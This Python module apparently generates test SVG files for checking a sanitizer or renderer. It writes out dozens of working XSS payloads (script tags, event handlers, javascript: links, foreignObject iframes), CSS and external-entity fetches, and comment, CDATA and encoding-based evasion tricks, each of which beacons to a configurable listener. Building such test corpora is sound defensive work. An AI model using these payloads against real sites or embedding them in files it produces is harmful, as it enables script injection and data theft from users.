"""SVG files that try to run scripts and to contact another host, generated from a seed.

Each contains one of the attacks below, in turn, among others, in a document that may be disguised too. `Attacks`
contains the address of a listener: whatever runs sends it a request.
"""

from __future__ import annotations

import base64
from random import Random

SVG = "http://www.w3.org/2000/svg"
XLINK = "http://www.w3.org/1999/xlink"
XHTML = "http://www.w3.org/1999/xhtml"
MATHML = "http://www.w3.org/1998/Math/MathML"
BOX = "width='9' height='9'"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


class Attacks:
    """Pieces of SVG; whatever runs or loads sends a request to `listener`."""

    def __init__(self, listener: str, name: str):
        self.load = f"{listener}/load/{name}"
        # None of its characters has a meaning in XML, in an attribute, or in a data: address.
        self.run = f"new Image().src=`{listener}/run/{name}`;top.ran=`{name}`"
        inner = f'<svg xmlns="{SVG}"><script>{self.run}</script><image href="{self.load}/inner"/></svg>'
        self.svg64 = base64.b64encode(inner.encode()).decode()
        self.html64 = base64.b64encode(f"<script>{self.run}</script>".encode()).decode()

    def all(self) -> list[str]:
        return [
            *self.scripts(), *self.handlers(), *self.elements(), *self.addresses(), *self.animations(), *self.styles(),
            *self.disguises(),
        ]

    def scripts(self) -> list[str]:
        run = self.run
        return [
            f"<script>{run}</script>",
            f"<script type='text/javascript'><![CDATA[{run}]]></script>",
            f"<script type='module'>{run}</script>",
            f"<script href='data:text/javascript,{run}'/>",
            f"<script xlink:href='{self.load}/script.js'/>",
            f"<script xmlns='{XHTML}'>{run}</script>",
            f"<s:script xmlns:s='{SVG}'>{run}</s:script>",
            f"<h:script xmlns:h='{XHTML}' src='data:text/javascript,{run}'/>",
            f"<g xmlns='x'><script xmlns='{SVG}'>{run}</script></g>",
            f"<title><script>{run}</script></title>",
            f"<metadata><script>{run}</script></metadata>",
            f"<style><script>{run}</script></style>",
            f"<unknown><script>{run}</script></unknown>",
            f"<SCRIPT>{run}</SCRIPT><script>{run}</script>",
            f"<script>&#110;ew Image().src=`{self.load}`</script>",
            f"<handler xmlns='{SVG}' xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>{run}</handler>",
        ]

    def handlers(self) -> list[str]:
        run = self.run
        return [
            f"<g onload='{run}'><path d='M0 0'/></g>",
            f"<svg onload='{run}'/>",
            f"<svg width='1' onload\n=\n'{run}'/>",
            f"<svg onload='&#110;ew Image().src=`{self.load}`'/>",
            f"<image href='{self.load}/missing.png' onerror='{run}'/>",
            f"<image href='data:image/png;base64,{PIXEL}' onload='{run}'/>",
            f"<image href='data:image/png;base64,AAAA' onerror='{run}'/>",
            f"<style onload='{run}'>a{{}}</style>",
            f"<animate attributeName='x' dur='1ms' onbegin='{run}'/>",
            f"<set attributeName='x' to='1' onbegin='{run}'/>",
            f"<animateTransform attributeName='transform' dur='1ms' onend='{run}'/>",
            f"<rect width='100' height='100' tabindex='0' autofocus='' onfocus='{run}'/>",
            f"<use href='#no' onerror='{run}'/><script href='x:' onerror='{run}'/>",
        ]

    def elements(self) -> list[str]:
        run = self.run
        return [
            f"<foreignObject {BOX}><body xmlns='{XHTML}' onload='{run}'><img src='x:' onerror='{run}'/></body>"
            "</foreignObject>",
            f"<foreignObject {BOX}><iframe xmlns='{XHTML}' src='data:text/html;base64,{self.html64}'/></foreignObject>",
            f"<foreignObject {BOX}><iframe xmlns='{XHTML}' srcdoc='&lt;script>{run}&lt;/script>'/></foreignObject>",
            f"<foreignObject><h:meta xmlns:h='{XHTML}' http-equiv='refresh' content='0;url={self.load}/refresh'/>"
            "</foreignObject>",
            f"<foreignObject><object xmlns='{XHTML}' data='data:image/svg+xml;base64,{self.svg64}'/></foreignObject>",
            f"<iframe xmlns='{XHTML}' src='{self.load}/frame'/>",
            f"<embed xmlns='{XHTML}' src='{self.load}/embed'/>",
            f"<link xmlns='{XHTML}' rel='stylesheet' href='{self.load}/link.css'/>",
            f"<base xmlns='{XHTML}' href='{self.load}/'/><image href='based.png'/>",
            f"<img xmlns='{XHTML}' src='{self.load}/html.png' onerror='{run}'/>",
            f"<video xmlns='{XHTML}' src='{self.load}/video' onerror='{run}'/>",
            f"<audio xmlns='{XHTML}' autoplay='' src='{self.load}/audio' onerror='{run}'/>",
            f"<math xmlns='{MATHML}'><mtext><img xmlns='{XHTML}' src='x:' onerror='{run}'/></mtext></math>",
            f"<template xmlns='{XHTML}'><script>{run}</script></template>",
        ]

    def addresses(self) -> list[str]:
        run, load = self.run, self.load
        return [
            f"<image {BOX} href='{load}/image.png'/>",
            f"<image {BOX} xlink:href='//{load.split('//')[1]}/image.png'/>",
            f"<image {BOX} href='data:image/svg+xml;base64,{self.svg64}'/>",
            f"<image {BOX} href='#a' xlink:href='{load}/both.png'/>",
            f"<feImage href='{load}/fe.png'/><filter id='f'><feImage href='{load}/fe.png'/></filter>"
            f"<rect {BOX} filter='url(#f)'/>",
            f"<use href='{load}/use.svg#a'/>",
            f"<use xlink:href='data:image/svg+xml;base64,{self.svg64}#a'/>",
            f"<use href='&#x20;{load}/use.svg#a'/>",
            f"<a href='javascript:{run}'><animate attributeName='x' begin='0s'/><text y='20'>here</text></a>",
            f"<a xlink:href='java&#9;script:{run}'><text y='20'>here</text></a>",
            f"<a href='data:text/html;base64,{self.html64}'><text y='20'>here</text></a>",
            f"<pattern id='p' href='{load}/pattern.svg#a'/><rect {BOX} fill='url(#p)'/>",
            f"<linearGradient id='l' xlink:href='{load}/gradient.svg#a'/><rect {BOX} fill='url(#l)'/>",
            f"<text><textPath href='{load}/path.svg#a'>a</textPath></text>",
            f"<g xml:base='{load}/'><image {BOX} href='base.png'/></g>",
            f"<tref xlink:href='{load}/tref.svg#a'/>",
            f"<color-profile name='c' xlink:href='{load}/profile.icc'/><cursor xlink:href='{load}/cursor.png'/>",
            f"<image {BOX} href='data:image/png,&lt;svg xmlns=\"{SVG}\" onload=\"{run}\"/>'/>",
            f"<image {BOX} srcset='{load}/set.png' src='{load}/src.png' href='{load}/href.png'/>",
        ]

    def animations(self) -> list[str]:
        run, load = self.run, self.load
        return [
            f"<image {BOX}><set attributeName='href' to='{load}/set.png'/></image>",
            f"<image {BOX}><animate attributeName='xlink:href' values='{load}/a.png;{load}/b.png' dur='1s'/></image>",
            "<a id='l' href='#x'><text>x</text></a>"
            f"<animate href='#l' attributeName='href' from='javascript:{run}' to='javascript:{run}'/>",
            f"<rect {BOX}><set attributeName='fill' to='url({load}/fill.svg#a)'/></rect>",
            f"<rect {BOX}><set attributeName='filter' to='url({load}/filter.svg#a)'/></rect>",
            f"<rect {BOX}><set attributeName='style' to='mask:url({load}/mask.svg#a)'/></rect>",
            f"<rect {BOX}><set attributeName='onclick' to='{run}'/></rect>",
            f"<rect {BOX}><animate attributeName='mask' by='url({load}/m.svg#a)' values='none;url({load}/m.svg#a)' "
            "dur='1s'/></rect>",
            f"<use><set attributeName='href' to='data:image/svg+xml;base64,{self.svg64}#a'/></use>",
        ]

    def styles(self) -> list[str]:
        load = self.load
        rect = "<rect id='a' class='a' width='9' height='9'/>"
        return [
            f"<style>@import url({load}/a.css);</style>{rect}",
            f"<style>@import '{load}/b.css';</style>{rect}",
            f"<style>@\\69mport '{load}/c.css';</style>{rect}",
            f"<style>/**/@import/**/\"{load}/d.css\"</style>{rect}",
            f"<style>@font-face{{font-family:f;src:url({load}/f.woff)}}text{{font-family:f}}</style>"
            "<text y='9'>a</text>",
            f"<style>svg{{background:url({load}/background.png)}}</style>{rect}",
            f"<style>svg{{background:u\\72l({load}/escaped.png)}}</style>{rect}",
            f"<style>svg{{background:image-set('{load}/set.png' 1x)}}</style>{rect}",
            f"<style>svg{{background:-webkit-image-set(url({load}/wset.png) 1x)}}</style>{rect}",
            f"<style>svg{{--a:url({load}/variable.png);background:var(--a)}}</style>{rect}",
            f"<style>@media all{{svg{{background:url({load}/media.png)}}}}</style>{rect}",
            f"<style>@supports (fill:red){{svg{{background:url({load}/supports.png)}}}}</style>{rect}",
            f"<style>.a{{fill:red;}}/*</style><style>*/svg{{background:url({load}/two.png)}}</style>{rect}",
            f"<style>.a{{x:\"\n\";}}svg{{background:url({load}/string.png)}}</style>{rect}",
            f"<style>.a{{x:(}}svg{{background:url({load}/paren.png)}})}}"
            f"svg{{background:url({load}/paren2.png)}}</style>{rect}",
            f"<style>.b[a='}}']{{fill:red}}svg{{background:url( \"{load}/selector.png\" )}}</style>{rect}",
            f"<style>svg{{&amp;{{background:url({load}/nested.png)}} .a{{mask:url({load}/nested2.svg#a)}}}}</style>"
            f"{rect}",
            f"<style>@namespace url({load}/ns);@layer a{{svg{{background:url({load}/layer.png)}}}}</style>{rect}",
            f"<style>svg{{cursor:url({load}/cursor.png),auto;content:url({load}/content.png);"
            f"list-style:url({load}/list.png)}}</style>{rect}",
            f"<style>&lt;/style>&lt;image href='{load}/close.png'/>svg{{background:url({load}/close2.png)}}</style>"
            f"{rect}",
            f"<g style='background:url({load}/attribute.png);mask:url({load}/attribute.svg#a)'>{rect}</g>",
            f"<g style=\"mask:url('{load}/quoted.svg#a')\">{rect}</g>",
            f"<g style='fill:red;/*;*/mask:url({load}/comment.svg#a)'>{rect}</g>",
            f"<g style='mask&#58;&#117;rl({load}/referenced.svg#a)'>{rect}</g>",
            f"<g mask='url({load}/mask.svg#a)' filter='url({load}/filter.svg#a)' clip-path='url({load}/clip.svg#a)'>"
            f"{rect}</g>",
            f"<path d='M0 0L9 9L0 9' stroke='red' marker-start='url({load}/marker.svg#a)' "
            f"fill='URL({load}/fill.svg#a)'/>",
            f"<g cursor='url({load}/cursor.png)' font='url({load}/font)'>{rect}</g>",
        ]

    def disguises(self) -> list[str]:
        run = self.run
        return [
            f"<!--><x a=\"--><script>{run}</script><!-- \"/>-->",
            f"<![CDATA[<!--]]><script>{run}</script><![CDATA[-->]]>",
            f"<?x <!-- ?><script>{run}</script><?x --> ?>",
            f"<g id=\"<!--\"/><script>{run}</script><g id=\"-->\"/>".replace("<!--\"", "&lt;!--\""),
            f"<text>&lt;script>{run}&lt;/script>&lt;img src=x: onerror='{run}'></text>",
            f"<title>&lt;/title>&lt;script>{run}&lt;/script></title>",
            f"<desc><![CDATA[</desc><script>{run}</script>]]></desc>",
            f"<text a='\"><script>{run}</script>'/>".replace("<script", "&lt;script")
            .replace("</script", "&lt;/script"),
            f"<style>a{{}}<![CDATA[</style><script>{run}</script>]]></style>",
            f"<g id=\"&quot;&gt;&lt;script>{run}&lt;/script>\" class='&#34;&#62;&#60;svg onload=1>'/>",
            f"<math><mtext><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror='{run}'&gt;\"/>-->"
            "</style></mglyph></mtext></math>",
        ]


def document(random: Random, attacks: Attacks, pieces: list[str]) -> bytes:
    """A document with some pieces, in one of many disguises."""
    frames = ["{}"] * 6 + [
        "<g>{}</g>", "<defs><g id='u'>{}</g></defs><use href='#u'/>", "<switch>{}</switch>", "<svg>{}</svg>",
        "<symbol id='s'>{}</symbol><use href='#s'/>", "<a href='#z'>{}</a>", "<text>{}</text>",
    ]  # fmt: skip
    body = "".join(random.choice(frames).replace("{}", piece) for piece in pieces)
    root = f"<svg xmlns=\"{SVG}\" xmlns:xlink='{XLINK}' viewBox='0 0 100 100'"
    plain = f"{root}>{body}</svg>"
    run = attacks.run
    form = random.randrange(60)
    texts = {
        0: f"{root} onload='{run}'>{body}</svg>",
        1: f"<!DOCTYPE svg [<!ENTITY x \"<script xmlns='{SVG}'>{run}</script>\">]>{root}>&x;</svg>",
        2: f"<!DOCTYPE svg [<!ATTLIST svg onload CDATA \"{run}\">]>{plain}",
        3: f"<!DOCTYPE svg SYSTEM \"{attacks.load}/dtd\">{plain}",
        4: f"<!DOCTYPE svg [<!ENTITY % x SYSTEM \"{attacks.load}/parameter\">%x;"
           f"<!ENTITY y SYSTEM \"{attacks.load}/entity\">]>{root}>&y;</svg>",
        5: f"<?xml-stylesheet href='{attacks.load}/sheet.css'?>{plain}",
        6: f"<?xml-stylesheet type='text/xsl' href='data:text/xml;base64,{attacks.svg64}'?>{plain}",
        7: f"<s:svg xmlns:s='{SVG}' xmlns='x' s:onload='{run}' onload='{run}'><s:script>{run}</s:script></s:svg>",
        8: f"<html xmlns='{XHTML}'><body onload='{run}'>{plain}</body></html>",
        9: f"<!-- {plain} -->{plain}<!-- -->",
        10: f"<?xml version='1.0' encoding='UTF-8'?>\n<!--><!--->{plain}-->{plain}",
        11: f"<!DOCTYPE html>{plain}",
        12: f"<?xml version='1.1'?>{plain}",
    }
    data = texts.get(form, plain).encode()
    if form == 13:
        # In this encoding ESC ( J and ESC $ B change the meaning of bytes.
        return b"<?xml version='1.0' encoding='ISO-2022-JP'?>" + plain.replace("<g", "\x1b(J<g").encode()
    if form == 14:
        return ("\ufeff" + plain).encode("utf-16-le")
    if form == 15:
        return f"<?xml version='1.0' encoding='UTF-16'?>{plain}".encode("utf-16")
    if form == 16:
        return b"<?xml version='1.0' encoding='UTF-7'?>" + plain.replace("<script", "+ADw-script").encode()
    if form == 17:
        return b"\xef\xbb\xbf" + data
    if form == 18:
        return data[: random.randrange(len(data))]
    if form == 19:
        # Some files have a random byte changed.
        changed = bytearray(data)
        for _ in range(random.randrange(1, 4)):
            changed[random.randrange(len(changed))] = random.choice(b"<>\"'&/ =-\x00\xff")
        return bytes(changed)
    if form == 20:
        return f"<?xml version='1.0' encoding='windows-1252'?>{plain}".encode()
    if form == 21:
        return data + b"<svg/>"
    return data


def drawings(seed: int, count: int, listener: str) -> dict[str, bytes]:
    """Hostile files by their names."""
    random = Random(seed)
    made = {}
    for index in range(count):
        attacks = Attacks(listener, f"h{index:03}")
        pieces = attacks.all()
        chosen = [pieces[index % len(pieces)]] + random.choices(pieces, k=random.choice([0, 0, 1, 2]))
        random.shuffle(chosen)
        made[f"h{index:03}.svg"] = document(random, attacks, chosen)
    return made
